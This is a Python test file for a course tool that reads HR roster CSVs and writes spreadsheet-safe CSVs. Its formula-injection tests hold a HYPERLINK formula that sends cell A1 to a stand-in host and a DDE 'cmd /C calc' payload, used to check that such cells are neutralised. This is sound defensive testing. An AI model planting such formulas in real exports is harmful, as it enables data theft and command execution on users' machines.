"""Does the roster reader take rosters as HR exports them, name every bad row by its line, and
does every CSV the course writes open safely in a spreadsheet?"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from servicecourse.cohort import roster
from servicecourse.cohort.roster import RosterError, read
from servicecourse.reporting.spreadsheet import csv_text, read_cell, safe_cell, write_csv

DATA = Path(__file__).parents[1] / "data"
HEADER = "id,first_name,last_name,email,team,start_date\n"
ANN = "ann,Ann,Archer,ann@example.com,Sales,2026-01-05\n"


def _file(tmp_path, content: str | bytes, name: str = "roster.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return path


# --- separators, encodings and headers ----------------------------------------------------------

def test_a_semicolon_export_in_windows_1252_is_read_with_a_warning():
    """Is Excel's French CSV (semicolons, cp1252, French headers) read, with a warning naming it?"""
    result = read(DATA / "roster-excel-fr.csv")
    assert [(person.id, person.first_name, person.last_name, person.team, person.start_date)
            for person in result.learners] == [
        ("amara-okoye", "Amara", "Okoye", "Accueil", date(2026, 10, 1)),
        ("chloe-martin", "Chloé", "Martin", "Facturation", date(2026, 10, 1)),
        ("jose-nunez", "José", "Núñez", "Facturation", None)]
    assert result.problems == []  # the row of bare separators Excel leaves is not a learner
    assert len(result.warnings) == 1
    assert "roster-excel-fr.csv: not UTF-8; read as Windows-1252" in result.warnings[0]


def test_a_tab_separated_export_with_a_bom_and_its_own_header_names_is_read():
    """Are tabs, a UTF-8 BOM and headers like 'First Name', 'Email Address' understood, with
    team and start date left out?"""
    result = read(DATA / "roster-tabs-bom.csv")
    assert [(person.id, person.name, person.email, person.team, person.start_date) for person in result.learners] == [
        ("dev-patel", "Dev Patel", "dev.patel@example.com", "", None),
        ("thi-ha-nguyen", "Thị Hà Nguyễn", "ha.nguyen@example.com", "", None)]
    assert result.problems == result.warnings == []


@pytest.mark.parametrize("header", [
    "ID,First name,Last name,E-mail", "id;firstName;lastName;Mail", "Id\tFIRST NAME\tSurname\temail",
    '"id","first_name","last_name","email"'])
def test_headers_match_whatever_their_case_spacing_or_separator(tmp_path, header):
    """Are header names matched leniently (case, spaces, camelCase, synonyms, quotes)?"""
    separator = ";" if ";" in header else "\t" if "\t" in header else ","
    row = separator.join(["ann", "Ann", "Archer", "ann@example.com"])
    result = read(_file(tmp_path, f"{header}\r\n{row}\r\n"))
    assert [(person.id, person.name, person.email) for person in result.learners] == [
        ("ann", "Ann Archer", "ann@example.com")]


def test_utf_16_as_excel_saves_unicode_text_is_read(tmp_path):
    """Is Excel's 'Unicode text' (UTF-16 with a BOM, tabs) read?"""
    text = "id\tfirst_name\tlast_name\temail\nchloe\tChloé\tMartin\tc@example.com\n"
    result = read(_file(tmp_path, text.encode("utf-16")))
    assert [person.first_name for person in result.learners] == ["Chloé"]


def test_a_file_of_no_known_text_encoding_is_refused_by_name(tmp_path):
    """Is a binary file refused with its name, not read as garbage?"""
    path = _file(tmp_path, b"id,first_name\x81\x8d,last_name,email\n")
    with pytest.raises(RosterError, match=r"roster.csv: neither UTF-8 nor Windows-1252"):
        read(path)


# --- columns ------------------------------------------------------------------------------------

def test_without_the_optional_columns_the_learners_are_kept(tmp_path):
    """Is a roster without team and start_date accepted (no misleading 'missing column')?"""
    result = read(_file(tmp_path, "id,first_name,last_name,email\nann,Ann,Archer,ann@example.com\n"))
    assert [(person.id, person.team, person.start_date) for person in result.learners] == [("ann", "", None)]
    assert result.problems == []


def test_a_missing_required_column_is_named_with_the_header_found(tmp_path):
    """Does a missing required column give one message naming the file, the column and the header?"""
    path = _file(tmp_path, "id,first_name,last_name,team\nann,Ann,Archer,Sales\n")
    with pytest.raises(RosterError) as error:
        read(path)
    message = str(error.value)
    assert message.startswith(f"{path}: no column for email (a header like 'email' or 'E-mail')")
    assert "'id', 'first_name', 'last_name', 'team'" in message
    assert "first name (" not in message and "team (" not in message  # only what is missing
    with pytest.raises(RosterError, match="no column for email"):
        read(DATA / "roster-missing-column.csv")


def test_extra_columns_are_kept_in_order_and_stored_with_the_cohort(tmp_path):
    """Are columns such as a manager and an employee id kept, in the cohort's roster.csv too?"""
    source = _file(tmp_path, "Employee ID,id,first_name,last_name,email,Manager,\n"
                             "0042,ann,Ann,Archer,ann@example.com,Hélène Roux,\n"
                             "0043,bob,Bob,Baker,bob@example.com,,\n", "hr.csv")
    result = read(source)
    assert result.columns == ["Employee ID", "Manager"]  # the unnamed empty column is dropped
    assert [person.extra for person in result.learners] == [{"Employee ID": "0042", "Manager": "Hélène Roux"},
                                                  {"Employee ID": "0043", "Manager": ""}]
    stored = roster.write(tmp_path / "cohort" / "roster.csv", result.learners, result.columns)
    again = read(stored)
    assert again.learners == result.learners and again.columns == result.columns


def test_a_column_named_twice_is_refused(tmp_path):
    """Is a header naming one column twice refused with both positions?"""
    path = _file(tmp_path, "id,first_name,last_name,email,Manager,manager\n")
    with pytest.raises(RosterError, match=r"columns 5 and 6 are both named 'manager'"):
        read(path)


# --- bad rows -----------------------------------------------------------------------------------

def test_every_bad_row_is_named_with_its_line_and_the_good_ones_kept():
    """Are an invalid email, a duplicate id, a non-ISO date and an empty id each named by line?"""
    result = read(DATA / "roster.csv")
    assert [person.id for person in result.learners] == ["amara-okoye", "ben-carter", "grace-liu"]
    assert [p.split(": ", 1)[1] for p in result.problems] == [
        "line 4: email 'not-an-email' is not an email address",
        "line 5: id 'amara-okoye' is already on line 2",
        "line 6: start date '31/10/2026' is not a date like 2026-11-23 (year-month-day)",
        "line 7: 'id' is empty"]


@pytest.mark.parametrize("bad, code", [("\x00", "U+0000"), ("\x1b[31m", "U+001B"),
                                       ("\u202e", "U+202E"), ("\x7f", "U+007F")])
def test_control_characters_are_refused_with_their_line(tmp_path, bad, code):
    """Is a name holding a NUL byte (or another control) refused, naming its line?"""
    path = _file(tmp_path, HEADER + ANN + f"bob,Bo{bad}b,Baker,bob@example.com,Sales,\n")
    result = read(path)
    assert [person.id for person in result.learners] == ["ann"]
    assert result.problems == [(f"{path}: line 3: the first name holds a control character "
                                f"({code}); the row is left out")]


def test_a_quoted_value_over_two_lines_keeps_the_line_numbers_right(tmp_path):
    """Does a quoted multi-line note (in an extra column) keep the row, and later lines their
    numbers?"""
    path = _file(tmp_path, "id,first_name,last_name,email,Notes\n"
                           'ann,Ann,Archer,ann@example.com,"first line\nsecond line"\n'
                           "bob,Bob,Baker,not-an-email,\n")
    result = read(path)
    assert result.learners[0].extra == {"Notes": "first line\nsecond line"}
    assert result.problems == [f"{path}: line 4: email 'not-an-email' is not an email address"]


def test_a_row_with_more_values_than_the_header_is_named(tmp_path):
    """Is a row split by an unquoted separator named, not read into the wrong columns?"""
    path = _file(tmp_path, HEADER + "ann,Ann,Archer,ann@example.com,Sales, Marketing,2026-01-05\n")
    result = read(path)
    assert result.learners == []
    assert "line 2: 7 values but the header has 6 columns" in result.problems[0]


def test_formula_cells_are_data_and_come_back_as_written(tmp_path):
    """Is a name like '=HYPERLINK(...)' kept as text, written quoted and read back unchanged?"""
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    path = _file(tmp_path, HEADER + f'eve,"{evil.replace(chr(34), chr(34) * 2)}",-Eve,eve@example.com,+Sales,\n')
    learner = read(path).learners[0]
    assert (learner.first_name, learner.last_name, learner.team) == (evil, "-Eve", "+Sales")
    stored = roster.write(tmp_path / "stored.csv", [learner], [])
    cells = next(r for r in csv.reader(io.StringIO(stored.read_text("utf-8-sig"))) if r[0] == "eve")
    assert cells[1:3] == ["'" + evil, "'-Eve"] and cells[4] == "'+Sales"
    assert read(stored).learners == [learner]


# --- the CSV writer -----------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+33 1 23", "'+33 1 23"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Chloé", "Chloé"), ("a=b", "a=b"), ("", ""),
    (None, ""), (-2.5, -2.5), (13, 13), (True, "True")])
def test_cells_that_a_spreadsheet_would_run_are_written_as_text(value, cell):
    """Does every cell starting with =, +, -, @, tab or CR get a quote (numbers stay numbers)?"""
    assert safe_cell(value) == cell
    if isinstance(cell, str):
        assert read_cell(cell) == ("" if value is None else str(value))


def test_the_course_csv_has_a_bom_so_excel_shows_accents(tmp_path):
    """Is every written CSV UTF-8 with a byte-order mark, CRLF, quoting what needs it?"""
    path = write_csv(tmp_path / "out" / "t.csv", ["name", "score"], [["Chloé, \"Clo\"", 9.5],
                                                                     ["=cmd|' /C calc'!A0", 0]])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data
    assert data.decode("utf-8-sig") == csv_text(["name", "score"], [["Chloé, \"Clo\"", 9.5],
                                                                    ["=cmd|' /C calc'!A0", 0]])[1:]
    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [
        ["name", "score"], ['Chloé, "Clo"', "9.5"], ["'=cmd|' /C calc'!A0", "0"]]


# --- importing into a cohort --------------------------------------------------------------------

@pytest.fixture(scope="module")
def cohort_folder(tmp_path_factory):
    from servicecourse import cohort

    return cohort.create(tmp_path_factory.mktemp("roster") / "c")


@pytest.mark.slow
def test_importing_merges_by_id_keeps_columns_and_fills_the_gradebook(cohort_folder, tmp_path):
    """Does a re-import update learners by id, keep every file's extra columns, and mirror the
    names into nbgrader's gradebook?"""
    from nbgrader.api import Gradebook

    from servicecourse import cohort

    first = roster.import_csv(cohort_folder, DATA / "roster-excel-fr.csv")
    assert len(first.learners) == 3 and first.warnings
    second = roster.import_csv(cohort_folder, _file(
        tmp_path, "id,first_name,last_name,email,Manager,Cost centre\n"
                  "jose-nunez,José,Núñez-Díaz,jose.nunez@example.com,Marc Dubois,CC-7\n"))
    assert second.columns == ["Manager", "Cost centre"]
    stored = roster.load(cohort_folder)
    assert list(stored) == ["amara-okoye", "chloe-martin", "jose-nunez"]
    assert stored["jose-nunez"].last_name == "Núñez-Díaz"
    assert stored["jose-nunez"].extra == {"Manager": "Marc Dubois", "Matricule": "E1003",
                                          "Cost centre": "CC-7"}
    assert stored["jose-nunez"].team == "Facturation"  # the second file has no team column
    assert stored["chloe-martin"].extra == {"Manager": "Hélène Roux", "Matricule": "E1002",
                                            "Cost centre": ""}
    assert (cohort_folder / "roster.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    with Gradebook(cohort.db_url(cohort_folder)) as gradebook:
        assert gradebook.find_student("jose-nunez").last_name == "Núñez-Díaz"
        assert gradebook.find_student("chloe-martin").first_name == "Chloé"


def test_the_import_command_reports_warnings_and_rejected_lines(cohort_folder, capsys):
    """Does `course cohort roster import` print the cp1252 warning, each bad line, and exit 1?"""
    from servicecourse.cli import main

    assert main(["cohort", "roster", "import", str(DATA / "roster.csv"),
                 "--cohort", str(cohort_folder)]) == 1
    out, err = capsys.readouterr()
    assert "3 learners imported or updated; 4 rows rejected" in out
    assert "line 5: id 'amara-okoye' is already on line 2" in err
    assert main(["cohort", "roster", "import", str(DATA / "roster-tabs-bom.csv"),
                 "--cohort", str(cohort_folder)]) == 0
    out, _ = capsys.readouterr()
    assert "other columns kept: Employee ID, Line Manager" in out
    assert main(["cohort", "roster", "import", str(DATA / "roster-missing-column.csv"),
                 "--cohort", str(cohort_folder)]) == 1
    assert "roster-missing-column.csv: no column for email" in capsys.readouterr().err
